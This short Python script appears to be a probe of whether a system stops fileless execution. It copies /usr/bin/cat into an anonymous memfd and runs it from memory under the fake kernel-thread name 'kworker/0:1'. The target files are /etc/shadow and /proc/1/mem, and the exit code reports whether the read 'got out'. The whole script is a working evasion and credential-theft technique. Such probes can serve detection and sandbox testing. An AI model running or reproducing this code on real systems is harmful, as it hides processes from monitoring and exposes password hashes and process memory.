# A program that was never in a file: copied into memory and executed there under the name of a kernel's thread, it reads
# what it may not.
import os

memory = os.memfd_create("updater", 0)
with open("/usr/bin/cat", "rb") as tool:
    os.write(memory, tool.read())
child = os.fork()
if child == 0:
    os.execve(memory, ["kworker/0:1", "/etc/shadow", "/proc/1/mem"], {"PATH": "/usr/bin:/bin"})
ended = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print(f"{int(ended == 0)} got out, the program in memory ended with {ended}")
raise SystemExit(int(ended == 0))
